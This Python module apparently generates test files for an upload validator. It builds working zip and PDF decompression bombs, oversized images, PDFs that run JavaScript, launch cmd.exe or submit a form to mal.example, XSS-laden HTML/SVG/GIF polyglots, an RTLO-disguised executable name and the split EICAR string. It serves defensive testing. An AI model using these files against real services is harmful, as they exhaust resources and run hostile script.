"""Files made to harm, by code: what unfolds without end, what is two things at once, what bears a false name."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator

import pikepdf

MIB = 2**20
GIB = 2**30
ALERT = b"<script>alert(document.domain)</script>"
HTML = b"<!DOCTYPE html><html><body>" + ALERT + b"</body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE = b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0" + struct.pack("<H", 0x8664) + bytes(400)
# In two halves: a scanner of this repository must not take it for what it stands for.
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + rb"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
Made = Callable[[], bytes]


def zeros(size: int, times: int = 1) -> bytes:
    """So many zeros, compressed as often as said."""
    made: Iterator[bytes] = (bytes(MIB) for _ in range(size // MIB))
    content = b""
    for _ in range(times):
        packer = zlib.compressobj(9)
        content = b"".join([*map(packer.compress, made), packer.flush()])
        made = iter([content])
    return content


def swollen(entry: str, *others: str, size: int = GIB) -> bytes:
    """An archive of about a thousandth of what it holds."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in others:
            archive.writestr(name, "<x/>")
        with archive.open(entry, "w") as file:
            for _ in range(size // MIB):
                file.write(bytes(MIB))
    return out.getvalue()


def lying(archive: bytes, said: int) -> bytes:
    """Every entry says this size, whatever it holds."""
    content, start = bytearray(archive), 0
    while (start := content.find(b"PK\x01\x02", start)) >= 0:
        content[start + 24 : start + 28] = struct.pack("<I", said)
        start += 4
    return bytes(content)


def nested(levels: int = 6, copies: int = 10) -> bytes:
    """Archives in archives: a million of the innermost."""
    inner = swollen("zeros", size=10 * MIB)
    for _ in range(levels):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(copies):
                archive.writestr(f"{number}.zip", inner)
        inner = out.getvalue()
    return inner


def crowd(number: int) -> bytes:
    """An archive whose list names one empty entry so many times."""
    local = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    listed, start = entry * number, len(local)
    end = struct.pack("<4sQ2H2L4Q", b"PK\6\6", 44, 45, 45, 0, 0, number, number, len(listed), start)
    way = struct.pack("<4sLQL", b"PK\6\7", 0, start + len(listed), 1)
    last = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    return local + listed + end + way + last


def png(side: int = 30_000) -> bytes:
    """So many dots square, all black."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    packer, row = zlib.compressobj(9), bytes(1 + side // 8)
    dots = b"".join([*(packer.compress(row) for _ in range(side)), packer.flush()])
    head = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", dots) + chunk(b"IEND", b"")


def gif(frames: int = 10_000, said: bytes = b"") -> bytes:
    """said: in a comment, below 256 bytes."""
    frame = bytes.fromhex("21f9040001000000002c0000000001000100000202440100")
    comment = b"\x21\xfe" + bytes([len(said)]) + said + b"\0" if said else b""
    return b"GIF89a" + bytes.fromhex("01000100800000000000ffffff") + comment + frame * frames + b";"


def pdf(change: Callable[[pikepdf.Pdf], object] = lambda made: None, password: str = "") -> bytes:
    made, out = pikepdf.new(), io.BytesIO()
    made.add_blank_page()
    change(made)
    if password:
        made.save(out, encryption=pikepdf.Encryption(owner=password, user=password))
    else:
        made.save(out, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return out.getvalue()


def does(action: str) -> Made:
    """A PDF that wants to do this when it is opened."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = pikepdf.Object.parse(action.encode())

    return lambda: pdf(change)


def carries_a_program() -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.attachments["facture.exe"] = EXE

    return pdf(change)


def unfolding(size: int = 512 * MIB) -> bytes:
    """A page whose words were packed twice: a thousand bytes for half a gigabyte."""
    packed = zeros(size, 2)

    def change(made: pikepdf.Pdf) -> None:
        words = made.make_stream(packed)
        words.Filter = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        made.pages[0].Contents = words

    return pdf(change)


def unfolding_list(size: int = 512 * MIB) -> bytes:
    """The list of its own objects, which every program must unfold to open it, was packed twice."""
    packed = zeros(size, 2)
    head = b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
    told = b"3 0 obj<</Type/XRef/Size 4/W[1 4 2]/Root 1 0 R/Filter[/FlateDecode/FlateDecode]/Length %d>>stream\n"
    return head + told % len(packed) + packed + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF" % len(head)


ARCHIVES: dict[str, Made] = {
    "gigaoctet.zip": lambda: swollen("zeros"),
    "emboite.zip": nested,
    "million.zip": lambda: crowd(1_000_000),
    "foule.zip": lambda: crowd(500_000),
    "menteur-haut.zip": lambda: lying(swollen("zeros", size=10 * MIB), 0xFFFFFFFE),
    "menteur-bas.zip": lambda: lying(swollen("zeros"), 0),
    "bombe.docx": lambda: swollen("word/document.xml", "[Content_Types].xml", "_rels/.rels"),
    "bombe.xlsx": lambda: swollen("xl/workbook.xml", "[Content_Types].xml", "_rels/.rels"),
    "bombe.odt": lambda: swollen("mimetype", "content.xml", "META-INF/manifest.xml"),
}
DOCUMENTS: dict[str, Made] = {
    "carre.png": png,
    "dix-mille.gif": gif,
    "page.pdf": unfolding,
    "liste.pdf": unfolding_list,
    "script.pdf": does("<</S/JavaScript/JS(app.alert(1))>>"),
    "lance.pdf": does("<</S/Launch/F(cmd.exe)>>"),
    "envoie.pdf": does("<</S/SubmitForm/F(https://mal.example/)>>"),
    "porte.pdf": carries_a_program,
    "chiffre.pdf": lambda: pdf(password="abc"),  # noqa: S106
}
# name: content, and whether it must be refused; what need not be is judged by how it is served
DISGUISES: dict[str, tuple[Made, bool]] = {
    "html-puis.pdf": (lambda: HTML + pdf(), False),
    "pdf-puis-html.pdf": (lambda: pdf() + HTML, False),
    "script.gif": (
        lambda: gif(1, b"*/=1;alert(document.domain)//").replace(b"\x01\0\x01\0\x80", b"/*\x01\0\x80", 1),
        False,
    ),
    "commentaire.gif": (lambda: gif(1, ALERT), False),
    "page.pdf": (lambda: HTML, True),
    "page.png": (lambda: HTML, True),
    "page.txt": (lambda: HTML, True),
    "page.html": (lambda: HTML, True),
    "page.xhtml": (lambda: HTML, True),
    "dessin.svg": (lambda: SVG, True),
    "dessin.png": (lambda: SVG, True),
    "dessin.txt": (lambda: SVG, True),
    "facture.pdf.exe": (lambda: EXE, True),
    "facture.exe.pdf": (lambda: EXE, True),
    "facture.pdf\u202efdp.exe": (lambda: EXE, True),
    "note.pdf.js": (lambda: b"alert(1)", True),
    "eicar.com": (lambda: EICAR, True),
    "eicar.pdf": (lambda: EICAR, True),
    "eicar.txt": (lambda: EICAR, False),
    "zip-et.pdf": (lambda: pdf() + swollen("a.txt", size=MIB), False),
}
